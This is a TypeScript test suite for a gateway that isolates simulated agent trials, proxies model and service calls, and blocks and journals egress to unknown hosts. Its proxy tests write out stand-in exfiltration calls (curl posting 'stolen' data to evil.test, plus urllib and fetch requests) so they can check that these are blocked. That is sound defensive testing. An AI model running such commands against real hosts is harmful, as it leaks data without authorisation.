import { execFile } from 'node:child_process';
import { request } from 'node:http';
import { connect } from 'node:net';
import { promisify } from 'node:util';
import OpenAI from 'openai';
import { afterAll, describe, expect, it } from 'vitest';
import { WorldSpec } from '../../domain/world-spec.ts';
import type { SimulatedModel } from '../model/simulated-model.ts';
import { notes, post, twoNotes } from './example-services.ts';
import { openGateway } from './gateway.ts';
import { randomStream } from './random.ts';
import { createWorld, type World } from './world.ts';

const gateway = await openGateway({ direct: ['http://collector.test:4318', 'https://api.openai.com/v1'] });
afterAll(() => gateway.close());

const parrot: SimulatedModel = {
  name: 'sim/parrot',
  move: ({ messages }) => ({ text: `${messages.at(-1)?.content}!` }),
};

function freshWorld(seed: string) {
  return createWorld({
    spec: WorldSpec.parse({ now: '2026-03-02T09:00:00Z', services: ['notes', 'post'], fixtures: ['two'] }),
    services: [notes, post],
    fixtures: { two: twoNotes },
    seed,
    model: parrot,
  });
}

/** Runs a program as an agent would be run: with the environment of its world. */
function program(environment: Record<string, string>, command: string, args: readonly string[]) {
  const { PATH } = process.env;
  return promisify(execFile)(command, args, { env: { PATH, ...environment } }).then(
    ({ stdout }) => stdout,
    ({ stderr, stdout }: { stderr: string; stdout: string }) => stdout + stderr,
  );
}

const curl = ['curl', ['--silent', '--show-error', '--max-time', '10']] as const;
const python = (...lines: string[]) => ['python3', ['-c', lines.join('\n')]] as const;

async function isThere(command: string): Promise<boolean> {
  return promisify(execFile)(command, ['--version']).then(
    () => true,
    () => false,
  );
}

const hasCurl = await isThere('curl');
const hasPython = await isThere('python3');

function egressOf(world: World) {
  return world.journal.map(({ operation, key, call }) => [operation, call.operation, key]);
}

describe('the gateway', () => {
  it('keeps twenty overlapping trials apart, each at addresses of its own', async () => {
    const random = randomStream('gateway', 'pauses');
    const play = async (name: string) => {
      const world = freshWorld(name);
      await gateway.inside(world, async ({ NOTES_URL, OPENAI_BASE_URL, OPENAI_API_KEY, OPENAI_MODEL }) => {
        const openai = new OpenAI({ baseURL: OPENAI_BASE_URL, apiKey: OPENAI_API_KEY });
        for (let round = 0; round < 3; round++) {
          const answer = await openai.chat.completions.create({
            model: OPENAI_MODEL ?? '',
            messages: [{ role: 'user', content: `${name} ${round}` }],
          });
          const text = answer.choices[0]?.message.content;
          await fetch(`${NOTES_URL}/items`, { method: 'POST', body: JSON.stringify({ text }) });
          await new Promise((resolve) => setTimeout(resolve, random() * 3));
        }
      });
      return world;
    };
    const names = Array.from({ length: 20 }, (_, index) => `trial-${index}`);
    const worlds = await Promise.all(names.map(play));
    for (const [index, world] of worlds.entries()) {
      const texts = world.journal.map((effect) => effect.after?.text);
      expect(texts).toEqual([0, 1, 2].map((round) => `${names[index]} ${round}!`));
      expect([world.modelCalls, world.calls.length]).toEqual([3, 3]);
    }
  });

  it('streams the model', async () => {
    await gateway.inside(freshWorld('stream'), async ({ OPENAI_BASE_URL }) => {
      const openai = new OpenAI({ baseURL: OPENAI_BASE_URL, apiKey: 'any' });
      const stream = await openai.chat.completions.create({
        model: 'sim/parrot',
        messages: [{ role: 'user', content: 'Polly' }],
        stream: true,
      });
      let text = '';
      for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
      expect(text).toBe('Polly!');
    });
  });

  it('leaves the same calls, effects and times as requests that come straight to the world', async () => {
    const traceparent = `00-${'a'.repeat(32)}-${'b'.repeat(16)}-01`;
    const letter = { method: 'POST', body: '{"text":"Grüße"}', headers: { traceparent } };
    const requests: [string, RequestInit][] = [
      ['items?a=1&a=2', {}],
      ['items/a%2Fb%20c', {}],
      ['items/constructor', { method: 'PATCH', body: '{"text":"new"}' }],
      ['items', letter],
      ['items/429815', { method: 'DELETE' }],
      ['items', { method: 'POST', body: 'no JSON' }],
      ['nowhere', {}],
      ['items', { method: 'PUT', body: '{}' }],
    ];
    const [straight, through] = [freshWorld('same'), freshWorld('same')];
    const answers: unknown[] = [];
    for (const [path, init] of requests) {
      const answer = await straight.handle(new Request(`http://notes.rehearse.test/${path}`, init));
      answers.push([answer.status, await answer.text(), answer.headers.get('content-type')]);
    }
    await gateway.inside(through, async ({ NOTES_URL }) => {
      for (const [path, init] of requests) {
        const answer = await fetch(`${NOTES_URL}/${path}`, init);
        const expected = answers.shift();
        expect([answer.status, await answer.text(), answer.headers.get('content-type')]).toEqual(expected);
      }
    });
    expect(through.journal).toEqual(straight.journal);
    expect(through.calls).toEqual(straight.calls);
    expect(through.now).toBe(straight.now);
    expect(through.journal[1]?.call).toMatchObject({ traceId: 'a'.repeat(32), spanId: 'b'.repeat(16) });
  });

  it('answers 410 at the address of a trial that has ended, and changes nothing there', async () => {
    const world = freshWorld('over');
    const address = await gateway.inside(world, async ({ NOTES_URL }) => `${NOTES_URL}/items`);
    const answer = await fetch(address, { method: 'POST', body: '{}' });
    expect([answer.status, await answer.json()]).toEqual([
      410,
      { error: { code: 'trial_over', message: expect.stringContaining('no trial is under way') } },
    ]);
    expect([world.journal, world.calls]).toEqual([[], []]);
  });

  it('has addresses that cannot be guessed', async () => {
    const addresses = await Promise.all(
      [1, 2].map(() => gateway.inside(freshWorld('same'), async ({ NOTES_URL }) => NOTES_URL)),
    );
    expect(new Set(addresses).size).toBe(2);
    for (const address of addresses) expect(address).toMatch(/\/t\/[0-9a-f]{32}\/notes$/);
  });

  it('says what is wrong with a path, a service or a body, and none of it is a call', async () => {
    const world = freshWorld('wrong');
    await gateway.inside(world, async ({ NOTES_URL = '' }) => {
      const refusal = async (url: string, init?: RequestInit) => {
        const answer = await fetch(url, init);
        return [answer.status, (await answer.json()).error.message];
      };
      expect(await refusal(`${gateway.url}/contacts`)).toEqual([
        404,
        'expected /t/<trial>/<service>/..., got /contacts',
      ]);
      expect(await refusal(NOTES_URL.replace(/notes$/, 'notez/items'))).toEqual([
        404,
        'this world has no service "notez"; it has notes, post, model',
      ]);
      const body = Buffer.alloc(8 * 2 ** 20 + 1, 'a');
      expect(await refusal(`${NOTES_URL}/items`, { method: 'POST', body })).toEqual([
        413,
        'expected a body of at most 8388608 bytes',
      ]);
    });
    expect([world.calls, world.journal]).toEqual([[], []]);
  });

  it('outlives clients that go away in the middle of a request or send none', async () => {
    const { port } = new URL(gateway.url);
    const world = freshWorld('gone');
    await gateway.inside(world, async ({ NOTES_URL = '' }) => {
      const half = request(`${NOTES_URL}/items`, { method: 'POST', headers: { 'content-length': '100' } });
      half.on('error', () => {});
      half.write('{"te');
      await new Promise((resolve) => setTimeout(resolve, 20));
      half.destroy();
      for (const bytes of ['CONNECT nowhere HTTP/1.1\r\n\r\n', 'rubbish\r\n\r\n', '']) {
        const socket = connect(Number(port), '127.0.0.1');
        socket.on('error', () => {});
        await new Promise<void>((resolve) => socket.write(bytes, () => resolve()));
        socket.destroy();
      }
      expect((await fetch(`${NOTES_URL}/items`)).status).toBe(200);
    });
    expect(world.calls.map(({ operation }) => operation)).toEqual(['items.list']);
  });
});

describe('the proxy of the gateway', () => {
  it('names itself with the token of the trial, but not for hosts that may be reached', async () => {
    const { proxy, past } = await gateway.inside(freshWorld('names'), async (environment) => ({
      proxy: environment.HTTPS_PROXY,
      past: environment.no_proxy,
    }));
    expect(proxy).toMatch(/^http:\/\/trial:[0-9a-f]{32}@127\.0\.0\.1:\d+$/);
    expect(past).toBe('localhost,127.0.0.1,::1,collector.test,api.openai.com');
  });

  it.runIf(hasCurl)('blocks and journals what curl sends to unknown hosts', async () => {
    const world = freshWorld('curl');
    const [plain, secure] = await gateway.inside(world, async (environment) => [
      await program(environment, curl[0], [...curl[1], 'http://evil.test/collect?a=1', '--data', 'stolen']),
      await program(environment, curl[0], [...curl[1], 'https://evil.test/collect']),
    ]);
    expect(plain).toContain('this world has no host evil.test; the request was blocked');
    expect(secure).toMatch(/403/);
    expect(egressOf(world)).toEqual([
      ['egress', 'POST http://evil.test', 'http://evil.test/collect?a=1'],
      ['egress', 'CONNECT https://evil.test', 'https://evil.test/'],
    ]);
    expect(world.journal[0]?.after).toMatchObject({ body: 'stolen' });
  });

  it.runIf(hasPython)(
    'blocks and journals what urllib sends to unknown hosts, and serves the rest',
    async () => {
      const world = freshWorld('python');
      const said = await gateway.inside(world, (environment) =>
        program(
          environment,
          ...python(
            'import os, urllib.request, urllib.error',
            'print(urllib.request.urlopen(os.environ["NOTES_URL"] + "/items/429815").read().decode())',
            'for url in ["http://evil.test/", "https://evil.test/"]:',
            '    try: urllib.request.urlopen(url)',
            '    except urllib.error.URLError as error: print(error)',
          ),
        ),
      );
      expect(said.trim().split('\n')).toEqual([
        '{"id":"429815","text":"second"}',
        'HTTP Error 403: Forbidden',
        expect.stringContaining('403 this world has no host evil.test'),
      ]);
      expect(egressOf(world)).toEqual([
        ['egress', 'GET http://evil.test', 'http://evil.test/'],
        ['egress', 'CONNECT https://evil.test', 'https://evil.test/'],
      ]);
    },
  );

  it("blocks and journals what Node's fetch sends to unknown hosts", async () => {
    const world = freshWorld('node');
    const script = `for (const url of ['http://evil.test/', 'https://evil.test/'])
      console.log(await fetch(url).then(({ status }) => status, ({ cause }) => cause.message));`;
    const said = await gateway.inside(world, (environment) =>
      program(environment, process.execPath, ['--input-type=module', '--eval', script]),
    );
    expect(said).not.toContain('ENOTFOUND');
    expect(egressOf(world).map(([, , key]) => key)).toEqual(['http://evil.test/', 'https://evil.test/']);
  });

  it('refuses whoever does not say whose trial it is, or says it of one that has ended', async () => {
    const ask = (method: string, path: string, credentials?: string) =>
      new Promise<number | undefined>((resolve, reject) => {
        const { hostname, port } = new URL(gateway.url);
        const authorization = credentials && `Basic ${Buffer.from(credentials).toString('base64')}`;
        const headers = { host: 'evil.test', ...(authorization && { 'proxy-authorization': authorization }) };
        request({ hostname, port, method, path, headers })
          .on('response', (response) => resolve(response.resume().statusCode))
          .on('connect', (response, socket) => {
            socket.destroy();
            resolve(response.statusCode);
          })
          .on('error', reject)
          .end();
      });
    for (const [method, path] of [
      ['GET', 'http://evil.test/'],
      ['CONNECT', 'evil.test:443'],
    ] as const) {
      expect(await ask(method, path)).toBe(407);
      expect(await ask(method, path, 'trial:')).toBe(407);
      expect(await ask(method, path, `trial:${'0'.repeat(32)}`)).toBe(410);
    }
  });
});
